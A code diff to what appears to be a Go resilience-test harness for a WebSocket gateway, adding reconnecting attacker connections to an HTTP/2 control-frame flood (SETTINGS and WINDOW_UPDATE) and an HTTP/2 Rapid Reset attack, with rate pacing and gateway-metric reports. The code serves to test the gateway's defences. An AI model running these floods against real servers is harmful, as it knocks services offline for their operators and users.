@@ -401,41 +401,109 @@ func closePeers(ps []*peer) {
 	}
 }
 
+// persistent runs attacking connections until until: each slot starts
+// with its connection of first (made before the attack began), attacks
+// with it (attack returns when the connection ended, a write failed or
+// until passed) and, if it was cut before until, dials a new one with
+// prepare and goes on: an attacker who comes back (-reconnect; without
+// it, a slot whose connection was cut stays idle until until). It
+// returns every connection used, to report on and close, and how many
+// dials failed.
+func persistent(ctx context.Context, reconnect bool, until time.Time, first []*peer, prepare func() (*peer, error), attack func(p *peer)) (all []*peer, dialFails int, firstDialErr error) {
+	var mu sync.Mutex
+	all = append(all, first...)
+	var wg sync.WaitGroup
+	for _, p := range first {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for p := p; time.Now().Before(until) && ctx.Err() == nil; {
+				if p == nil {
+					np, err := prepare()
+					mu.Lock()
+					if err != nil {
+						dialFails++
+						if firstDialErr == nil {
+							firstDialErr = err
+						}
+					} else {
+						all = append(all, np)
+					}
+					mu.Unlock()
+					if err != nil {
+						time.Sleep(50 * time.Millisecond)
+						continue
+					}
+					p = np
+				}
+				attack(p)
+				p = nil
+				if !reconnect {
+					break
+				}
+			}
+		}()
+	}
+	wg.Wait()
+	_ = sleep(ctx, time.Until(until))
+	return all, dialFails, firstDialErr
+}
+
+// reconnects says how many connections the attacker needed beyond its
+// first ones, and the dials that failed.
+func reconnects(all []*peer, first, dialFails int, firstDialErr error) string {
+	s := fmt.Sprintf("%d connections (none after the cuts)", len(all))
+	if len(all) > first {
+		s = fmt.Sprintf("%d connections in all (%d at a time, a new one after each cut)", len(all), first)
+	}
+	if dialFails > 0 {
+		s += fmt.Sprintf(", %d dials or stream openings failed (first: %v)", dialFails, firstDialErr)
+	}
+	return s
+}
+
 // controlFlood is 16 (SETTINGS toggling INITIAL_WINDOW_SIZE) and 17
 // (WINDOW_UPDATE(0, 1)): 3 connections, each with -attack-streams
-// WebSocket streams open, flood the frame as fast as the gateway reads,
-// reading what it sends.
+// WebSocket streams open (to the reset pool, whose node is the
+// attacker's), flood the frame at -flood-rate, reading what the gateway
+// sends; a connection cut is replaced by a new one with its streams, until
+// the attack's end.
 func controlFlood(ctx context.Context, e *attackEnv, settings bool) (string, error) {
 	const conns, perBatch = 3, 512
-	ps, err := dialPeers(e, conns)
-	if err != nil {
-		return "", err
-	}
-	defer closePeers(ps)
-	for _, p := range ps {
-		err := p.batch(func() error {
+	prepare := func() (*peer, error) {
+		p, err := dialPeer(e.gw.tls, e.o.attacker)
+		if err != nil {
+			return nil, err
+		}
+		err = p.batch(func() error {
 			for i := range e.o.attackStreams {
-				if _, err := p.webSocket(fmt.Sprintf("/echo/attacker-%d", i)); err != nil {
+				if _, err := p.webSocket(fmt.Sprintf("/rr/attacker-%d", i)); err != nil {
 					return err
 				}
 			}
 			return nil
 		})
+		if err == nil && !p.waitStatus(200, e.o.attackStreams, 10*time.Second) {
+			err = fmt.Errorf("%d of %d attacker's streams open", p.status(200), e.o.attackStreams)
+		}
 		if err != nil {
+			closePeers([]*peer{p})
+			return nil, err
+		}
+		return p, nil
+	}
+	var first []*peer
+	for range conns {
+		p, err := prepare()
+		if err != nil {
+			closePeers(first)
 			return "", fmt.Errorf("open the attacker's streams: %w", err)
 		}
-	}
-	openStreams := 0
-	for _, p := range ps {
-		p.waitStatus(200, e.o.attackStreams, 10*time.Second)
-		openStreams += p.status(200)
-	}
-	sent0 := int64(0)
-	for _, p := range ps {
-		sent0 += p.sent.Load()
+		first = append(first, p)
 	}
 	until, err := e.begin()
 	if err != nil {
+		closePeers(first)
 		return "", err
 	}
 	start := time.Now()
@@ -450,105 +518,98 @@ func controlFlood(ctx context.Context, e *attackEnv, settings bool) (string, err
 	if settings {
 		frameSize = 15
 	}
-	var frames atomic.Int64
-	var wg sync.WaitGroup
-	for _, p := range ps {
-		wg.Add(1)
-		go func() {
-			defer wg.Done()
-			pace := newPacer(rate * 1e6 / frameSize / conns)
-			for k := 0; time.Now().Before(until) && ctx.Err() == nil && !p.isDone(); k++ {
-				err := p.batch(func() error {
-					for i := range perBatch {
-						var err error
-						if settings {
-							err = p.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 - uint32(i&1)})
-						} else {
-							err = p.fr.WriteWindowUpdate(0, 1)
-						}
-						if err != nil {
-							return err
-						}
+	var frames, flooded atomic.Int64
+	all, fails, firstErr := persistent(ctx, e.o.reconnect, until, first, prepare, func(p *peer) {
+		pace := newPacer(rate * 1e6 / frameSize / conns)
+		sent0 := p.sent.Load()
+		defer func() { flooded.Add(p.sent.Load() - sent0) }()
+		for time.Now().Before(until) && ctx.Err() == nil && !p.isDone() {
+			err := p.batch(func() error {
+				for i := range perBatch {
+					var err error
+					if settings {
+						err = p.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 - uint32(i&1)})
+					} else {
+						err = p.fr.WriteWindowUpdate(0, 1)
 					}
-					return nil
-				})
-				if err != nil {
-					return
+					if err != nil {
+						return err
+					}
 				}
-				frames.Add(perBatch)
-				pace.wait(perBatch)
+				return nil
+			})
+			if err != nil {
+				return
 			}
-		}()
-	}
-	wg.Wait()
+			frames.Add(perBatch)
+			pace.wait(perBatch)
+		}
+	})
 	at := time.Now()
-	var sent int64
-	for _, p := range ps {
-		sent += p.sent.Load()
-	}
-	got := float64(sent-sent0) / at.Sub(start).Seconds()
-	return fmt.Sprintf("%d streams open beside; %d frames at %.1f MB/s; %s", openStreams, frames.Load(), got/1e6, peersReport(ps, at)), nil
+	defer closePeers(all)
+	got := float64(flooded.Load()) / at.Sub(start).Seconds()
+	return fmt.Sprintf("%d streams open beside each; %d frames at %.2f MB/s; %s; %s", e.o.attackStreams, frames.Load(), got/1e6,
+		reconnects(all, conns, fails, firstErr), peersReport(all, at)), nil
 }
 
 // rapidReset is 19: 3 connections open WebSocket streams to the reset
 // pool and reset each at once (HEADERS then RST_STREAM(CANCEL), 100 a
-// batch), until the attack's end; then, a second later, the handshakes
-// the reset pool's node got.
+// batch), at -reset-rate, a connection cut replaced by a new one, until
+// the attack's end; then, a second later, the handshakes the reset pool's
+// node got.
 func rapidReset(ctx context.Context, e *attackEnv) (string, error) {
 	const conns = 3
 	perBatch := 100
 	if r := e.o.resetRate; r > 0 && r < 3000 {
 		perBatch = max(1, r/30) // about 10 batches a second a connection
 	}
-	ps, err := dialPeers(e, conns)
+	prepare := func() (*peer, error) { return dialPeer(e.gw.tls, e.o.attacker) }
+	first, err := dialPeers(e, conns)
 	if err != nil {
 		return "", err
 	}
-	defer closePeers(ps)
 	gone0, _ := e.gw.metric("wsgate_handshakes_total", `result="client_gone"`)
 	until, err := e.begin()
 	if err != nil {
+		closePeers(first)
 		return "", err
 	}
-	var resets atomic.Int64
-	var wg sync.WaitGroup
-	for c, p := range ps {
-		wg.Add(1)
-		go func() {
-			defer wg.Done()
-			pace := newPacer(float64(e.o.resetRate) / conns)
-			for time.Now().Before(until) && ctx.Err() == nil && !p.isDone() {
-				err := p.batch(func() error {
-					for i := range perBatch {
-						id, err := p.webSocket(fmt.Sprintf("/rr/%d-%d", c, i))
-						if err == nil {
-							err = p.fr.WriteRSTStream(id, http2.ErrCodeCancel)
-						}
-						if err != nil {
-							return err
-						}
+	var resets, slot atomic.Int64
+	all, fails, firstErr := persistent(ctx, e.o.reconnect, until, first, prepare, func(p *peer) {
+		c := slot.Add(1)
+		pace := newPacer(float64(e.o.resetRate) / conns)
+		for time.Now().Before(until) && ctx.Err() == nil && !p.isDone() {
+			err := p.batch(func() error {
+				for i := range perBatch {
+					id, err := p.webSocket(fmt.Sprintf("/rr/%d-%d", c, i))
+					if err == nil {
+						err = p.fr.WriteRSTStream(id, http2.ErrCodeCancel)
 					}
-					return nil
-				})
-				if err != nil {
-					return
+					if err != nil {
+						return err
+					}
 				}
-				resets.Add(int64(perBatch))
-				pace.wait(perBatch)
+				return nil
+			})
+			if err != nil {
+				return
 			}
-		}()
-	}
-	wg.Wait()
+			resets.Add(int64(perBatch))
+			pace.wait(perBatch)
+		}
+	})
 	at := time.Now()
-	report := peersReport(ps, at)
+	defer closePeers(all)
+	report := peersReport(all, at)
 	if err := sleep(ctx, time.Second); err != nil {
 		return "", err
 	}
 	gone1, _ := e.gw.metric("wsgate_handshakes_total", `result="client_gone"`)
 	n := resets.Load()
 	hs := e.reset.handshakes.Load()
-	return fmt.Sprintf("%d streams reset (%.0f/s); node handshakes %d (%.2f per 1,000 reset); handshakes counted client_gone %.0f; %s",
-		n, float64(n)/e.o.duration.Seconds(), hs, 1000*float64(hs)/float64(max(n, 1)), gone1-gone0, report), nil
+	return fmt.Sprintf("%d streams reset (%.0f/s); node handshakes %d (%.2f per 1,000 reset); handshakes counted client_gone %.0f; %s; %s",
+		n, float64(n)/e.o.duration.Seconds(), hs, 1000*float64(hs)/float64(max(n, 1)), gone1-gone0,
+		reconnects(all, conns, fails, firstErr), report), nil
 }
 
 // pacer spaces an attacker's batches so that perSec units a second go
